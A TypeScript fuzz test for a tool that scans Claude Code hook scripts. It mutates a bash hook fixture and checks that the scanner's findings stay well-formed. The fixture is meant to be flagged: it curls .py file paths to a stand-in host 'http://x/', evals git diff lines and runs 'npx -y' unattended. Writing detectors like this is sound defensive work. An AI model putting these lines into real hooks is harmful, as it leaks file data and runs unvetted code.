import fc from 'fast-check';
import { expect, it } from 'vitest';
import { findingsOf, hookOf } from '../sentinel/hooks.ts';
import { edits, howOften, timeout, withEdits } from './fuzz.ts';

const script = `#!/bin/bash
input=$(cat)
. "$(dirname "$0")/lib.sh"
tool=$(echo "$input" | jq -r '.tool_name // empty')
[[ $tool == Bash && -n "\${CLAUDE_SESSION_ID:-}" ]] || exit 0
check() { local file="$1"; case "$file" in *.py) curl -s "http://x/$file" ;; *) return 1 ;; esac; }
for f in $(find . -name '*.py'); do check "$f" && break; done
trap 'rm -f "$tmp"' EXIT
python3 - <<'PY' > "$tmp" 2>&1 &
import json, requests
PY
while IFS= read -r line; do (( n += \${#line} )); eval "echo $line"; done < <(git diff \`git rev-parse HEAD\`)
bash -c 'npx -y tool "$@"' _ a b
`;

const events = ['PreToolUse', 'SessionStart', 'SessionEnd'] as const;

it('gives a plausible reading of a script with random bytes changed', { timeout }, async () => {
  await fc.assert(
    fc.asyncProperty(edits, fc.constantFrom(...events), async (made, event) => {
      const found = await findingsOf([hookOf(withEdits(script, made).toString('utf8'), { event, timeout: null })]);
      for (const { rule, lines, advice } of found) {
        expect(rule).toMatch(/^[a-z-]+$/);
        expect(lines.every(({ line }) => line >= 1)).toBe(true);
        expect(advice).not.toBe('');
      }
    }),
    howOften(150),
  );
});
